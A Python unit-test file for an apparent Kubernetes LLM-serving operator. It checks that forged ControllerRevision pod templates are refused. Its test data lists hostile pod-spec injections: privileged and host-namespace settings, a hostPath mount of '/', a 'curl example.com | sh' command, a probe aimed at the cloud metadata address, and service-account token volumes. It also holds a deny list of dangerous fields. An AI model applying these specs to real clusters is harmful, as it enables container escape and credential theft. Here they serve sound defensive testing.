"""What ControllerRevisions hold is used only when a released operator could have written it."""

from __future__ import annotations

from functools import reduce
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from llmfleet.api import clean_line
from llmfleet.planning.decide import decide
from llmfleet.planning.plan import Plan
from llmfleet.planning.revisions.revision import revision_hash
from llmfleet.planning.revisions.stored import UnusableError, read_controller_revision
from llmfleet.planning.snapshot import JSON
from tests.unit.planning.fleet import Fleet, hash_of, resource
from tests.unit.planning.forging import (
    changed,
    controller_revision,
    forged_template,
    places,
    released,
)

RELEASED = released()
POD = ("template", "spec")
CONTAINER = (*POD, "containers", 0)

FORBIDDEN = (
    "hostNetwork", "hostPID", "hostIPC", "hostUsers", "hostAliases", "hostPath", "hostPort",
    "hostIP", "host", "hostProcess", "privileged", "procMount", "add", "sysctls", "seLinuxOptions",
    "appArmorProfile", "windowsOptions", "localhostProfile", "supplementalGroups", "fsGroup",
    "serviceAccountName", "serviceAccount", "nodeName", "schedulerName", "initContainers",
    "ephemeralContainers", "command", "args", "workingDir", "lifecycle", "envFrom", "stdin", "tty",
    "volumeDevices", "devicePath", "resourceClaims", "claims", "mountPropagation", "subPathExpr",
    "csi", "nfs", "iscsi", "projected", "ephemeral", "gitRepo", "flexVolume", "resourceFieldRef",
    "fileKeyRef", "exec", "tcpSocket", "grpc", "httpHeaders", "shareProcessNamespace",
    "restartPolicy", "dnsPolicy", "dnsConfig", "imagePullSecrets", "priority", "preemptionPolicy",
    "overhead", "setHostnameAsFQDN", "ownerReferences", "finalizers", "namespace",
)  # fmt: skip
"""Fields of a pod, its containers, volumes and their parts that no revision has anywhere."""

FORGED: dict[str, tuple[tuple[str | int, ...], str, Any]] = {
    "the node's network": (POD, "hostNetwork", True),
    "the node's processes": (POD, "hostPID", True),
    "the node's memory": (POD, "hostIPC", True),
    "a user namespace of the node": (POD, "hostUsers", True),
    "another identity": (POD, "serviceAccountName", "cluster-admin"),
    "the identity's token": (POD, "automountServiceAccountToken", True),
    "the token by default": (POD, "automountServiceAccountToken", ...),
    "a node of its choice": (POD, "nodeName", "control-plane"),
    "root": ((*POD, "securityContext"), "runAsUser", 0),
    "perhaps root": ((*POD, "securityContext"), "runAsNonRoot", False),
    "no profile of system calls": (
        (*POD, "securityContext"), "seccompProfile", {"type": "Unconfined"},
    ),
    "no security context": (POD, "securityContext", ...),
    "a second container": (POD, "containers", [{"name": "engine"}, {"name": "more"}]),
    "no container": (POD, "containers", []),
    "a container before": (POD, "initContainers", [{"name": "first"}]),
    "another container's name": (CONTAINER, "name", "other"),
    "another image": (CONTAINER, "image", "evil@sha256:" + "1" * 64),
    "no image": (CONTAINER, "image", ...),
    "a command": (CONTAINER, "command", ["sh", "-c", "curl example.com | sh"]),
    "a hook": (CONTAINER, "lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}),
    "a probe that runs something": (
        CONTAINER, "livenessProbe", {"exec": {"command": ["sh"]}},
    ),
    "a probe of somebody else": (
        (*CONTAINER, "livenessProbe", "httpGet"), "host", "169.254.169.254",
    ),
    "a port of the node": (CONTAINER, "ports", [{"containerPort": 80, "hostPort": 80}]),
    "privilege": ((*CONTAINER, "securityContext"), "privileged", True),
    "more privilege later": ((*CONTAINER, "securityContext"), "allowPrivilegeEscalation", True),
    "a capability": (
        (*CONTAINER, "securityContext"), "capabilities", {"drop": ["ALL"], "add": ["SYS_ADMIN"]},
    ),
    "all capabilities": ((*CONTAINER, "securityContext"), "capabilities", {}),
    "root in the container": ((*CONTAINER, "securityContext"), "runAsUser", 0),
    "no security context of the container": (CONTAINER, "securityContext", ...),
    "a block device": (CONTAINER, "volumeDevices", [{"name": "d", "devicePath": "/dev/sda"}]),
    "the node's files": (POD, "volumes", [{"name": "n", "hostPath": {"path": "/"}}]),
    "tokens of the identity": (
        POD, "volumes",
        [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}],
    ),
    "an operator's volume of another kind": (
        POD, "volumes", [{"name": "llmfleet-cache", "hostPath": {"path": "/"}}],
    ),
    "an operator's volume nobody knows": (POD, "volumes", [{"name": "llmfleet-x", "emptyDir": {}}]),
    "a token that is no Secret": (POD, "volumes", [{"name": "llmfleet-token", "emptyDir": {}}]),
    "a mount over the operator's": (
        CONTAINER, "volumeMounts", [{"name": "a", "mountPath": "/etc/llmfleet"}],
    ),
    "a mount that climbs": (
        CONTAINER, "volumeMounts", [{"name": "a", "mountPath": "/data/../etc/llmfleet"}],
    ),
    "a mount over the operator's, written longer": (
        CONTAINER, "volumeMounts", [{"name": "a", "mountPath": "//etc/llmfleet"}],
    ),
    "a mount over the operator's, with a dot": (
        CONTAINER, "volumeMounts", [{"name": "a", "mountPath": "/etc/./llmfleet"}],
    ),
    "a mount over everything": (CONTAINER, "volumeMounts", [{"name": "a", "mountPath": "//"}]),
    "a mount above the operator's": (
        CONTAINER, "volumeMounts", [{"name": "a", "mountPath": "/opt"}],
    ),
    "an operator's volume over the runtime's code": (
        CONTAINER, "volumeMounts", [{"name": "llmfleet-claim-0", "mountPath": "/opt/llmfleet"}],
    ),
    "an operator's volume over the system's": (
        CONTAINER, "volumeMounts", [{"name": "llmfleet-cache", "mountPath": "/usr"}],
    ),
    "an operator's volume in another's place": (
        CONTAINER, "volumeMounts", [{"name": "llmfleet-claim-0", "mountPath": "/etc/llmfleet"}],
    ),
    "a variable that the runtime sets": (
        CONTAINER, "env", [{"name": "VLLM_PLUGINS", "value": "mine"}],
    ),
    "a variable of llmfleet": (CONTAINER, "env", [{"name": "LLMFLEET_TOKEN", "value": "1"}]),
    "all of a Secret": (CONTAINER, "envFrom", [{"secretRef": {"name": "keys"}}]),
    "another resource's label": (
        ("template", "metadata", "labels"), "llmfleet.dev/deployment", "other",
    ),
    "a label nobody knows": (("template", "metadata", "labels"), "llmfleet.dev/odd", "1"),
    "an annotation nobody knows": (
        ("template", "metadata", "annotations"), "llmfleet.dev/odd", "1",
    ),
    "no labels": (("template", "metadata"), "labels", ...),
    "no pod": (("template",), "spec", ...),
    "no template": ((), "template", ...),
    "no payload": ((), "payload", ...),
    "a payload of another revision": (("payload", "model"), "servedName", "other"),
    "a payload of other sections": ((), "payload", {"engine": []}),
    "a payload too deep": ((), "payload", reduce(lambda inner, _: {"a": inner}, range(400), {})),
    "another recorded image": ((), "image", "evil@sha256:" + "1" * 64),
    "a newer schema": ((), "schema", 2),
}  # fmt: skip


def read(stored: JSON) -> None:
    read_controller_revision(controller_revision(stored), "chat")


@pytest.mark.parametrize("name", RELEASED)
def test_revision_when_a_released_operator_made_it_then_it_is_read(name: str) -> None:
    stored = RELEASED[name]
    found = read_controller_revision(controller_revision(stored), "chat")
    assert found.template == stored["data"]["template"]
    assert found.payload == stored["data"]["payload"]
    assert found.number == stored["revision"]


@pytest.mark.parametrize("path", ["/data", "/data/", "//data/./x", "/etcetera", "/models-of-mine"])
def test_mount_when_it_lies_beside_the_operators_then_it_is_read(path: str) -> None:
    template = RELEASED["2026-11-29-smallest"]["data"]["template"]
    mount = {"name": "a", "mountPath": path}
    made = changed(template, ("spec", "containers", 0), "volumeMounts", [mount])
    stored = RELEASED["2026-11-29-smallest"]
    read({**stored, "data": {**stored["data"], "template": made}})


@pytest.mark.parametrize("what", FORGED)
@pytest.mark.parametrize("name", ["2026-11-29-everything", "today: volumes"])
def test_revision_when_it_is_forged_then_it_is_not_used(name: str, what: str) -> None:
    stored = RELEASED[name]
    with pytest.raises(UnusableError):
        read({**stored, "data": changed(stored["data"], *FORGED[what])})


ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers(-9, 9) | st.text(max_size=9),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=9), inner),
    max_leaves=4,
)


@pytest.mark.long
@given(
    name=st.sampled_from(sorted(RELEASED)),
    where=st.integers(min_value=0),
    key=st.sampled_from(FORBIDDEN) | st.text(max_size=20).map("x-".__add__),
    value=ANYTHING,
)
@settings(max_examples=600, deadline=None)
def test_template_when_a_field_is_added_anywhere_then_it_is_not_used(
    name: str, where: int, key: str, value: Any
) -> None:
    stored = RELEASED[name]
    spots = list(places(stored["data"]["template"]))
    spot = ("template", *spots[where % len(spots)])
    with pytest.raises(UnusableError):
        read({**stored, "data": changed(stored["data"], spot, key, value)})


@given(data=ANYTHING, number=ANYTHING)
@example(data={"payload": {"model": {"x": float("nan")}}, "template": {}}, number=True)
@settings(max_examples=300, deadline=None)
def test_revision_when_it_is_anything_then_it_is_refused_in_words(data: Any, number: Any) -> None:
    stored = {"name": "chat-rev-0123456789", "revision": number, "data": data}
    with pytest.raises(UnusableError) as refusal:
        read(stored)
    assert str(refusal.value) == clean_line(str(refusal.value))


def test_revision_when_its_name_is_not_its_payloads_hash_then_it_is_not_used() -> None:
    stored = RELEASED["2026-11-29-smallest"]
    with pytest.raises(UnusableError, match="its payload is that of revision d2e95b4334"):
        read({**stored, "name": "chat-rev-0000000000"})


def test_revision_when_it_lacks_our_label_then_it_is_not_used() -> None:
    found = controller_revision(RELEASED["2026-11-29-smallest"], labels={})
    with pytest.raises(UnusableError, match="lacks the label"):
        read_controller_revision(found, "chat")


def test_revision_when_another_ones_payload_asks_for_its_image_then_it_has_to_be_that() -> None:
    stored = RELEASED["2026-11-29-everything"]
    other = "evil@sha256:" + "1" * 64
    data = changed(stored["data"], CONTAINER, "image", other) | {"image": other}
    with pytest.raises(UnusableError, match="its payload asks for"):
        read({**stored, "data": data})


def deployments(plan: Plan) -> dict[str, JSON]:
    """Pod specs of the engines that a plan makes or keeps, by revision."""
    return {
        child.key.name.removeprefix("chat-rev-"): child.body["spec"]["template"]["spec"]
        for child in plan.children
        if child.key.kind == "Deployment" and child.key.name != "chat-router"
    }


def test_controller_revision_when_somebody_made_it_first_then_no_pod_is_planned_from_it() -> None:
    world = Fleet(resource())
    honest = world.decide()
    made = next(each for each in honest.children if each.key.kind == "ControllerRevision")
    data = made.body["data"]
    stored = {
        "name": made.key.name, "revision": 1,
        "data": {**data, "template": forged_template(data["template"])},
    }  # fmt: skip
    forged = controller_revision(stored)
    world.objects[forged.key] = forged

    plan = world.reconcile()

    assert deployments(plan) == {}
    said = world.condition("MemoryUnreadable")
    assert said["status"] == "True"
    assert "ControllerRevision chat-rev-" in said["message"]
    assert "securityContext.privileged is set, which no revision may have" in said["message"]
    assert f"kubectl delete controllerrevision {made.key.name}" in said["message"]
    assert world.condition("Progressing")["reason"] == "Blocked"

    del world.objects[forged.key]
    world.settle()
    assert world.status()["phase"] == "Healthy"
    assert world.condition("MemoryUnreadable") == {}
    assert "hostPID" not in deployments(world.decide())[hash_of(world.raw)]


def test_controller_revision_when_a_served_ones_is_forged_then_its_pods_stay_as_they_are() -> None:
    world = Fleet(resource())
    world.settle()
    served = hash_of(world.raw)
    key = controller_revision({"name": f"chat-rev-{served}", "revision": 1, "data": {}}).key
    found = world.objects[key]
    data = {**found.body["data"], "template": forged_template(found.body["data"]["template"])}
    world.objects[key] = controller_revision({"name": key.name, "revision": 1, "data": data})

    world.settle()

    # Memory holds the same revision, unforged.
    assert "hostPID" not in deployments(world.decide())[served]
    assert world.status()["traffic"] == [{"revision": served, "weight": 100}]
    assert key.name in world.condition("MemoryUnreadable")["message"]
    assert "MemoryUnreadable" in world.events


def test_hash_when_the_payload_was_stored_by_a_released_operator_then_it_is_its_name() -> None:
    for stored in RELEASED.values():
        assert stored["name"] == f"chat-rev-{revision_hash(stored['data']['payload'])}"


def test_many_unusable_revisions_when_told_then_the_sentence_stays_short() -> None:
    world = Fleet(resource())
    world.settle()
    for number in range(200):
        forged = controller_revision({"name": f"chat-rev-{number:010x}", "revision": 1, "data": {}})
        world.objects[forged.key] = forged
    plan = decide(world.snapshot(), world.now)
    assert plan.status is not None
    said = next(each for each in plan.status["conditions"] if each["type"] == "MemoryUnreadable")
    assert "and 195 more" in said["message"]
    assert len(said["message"]) < 3000
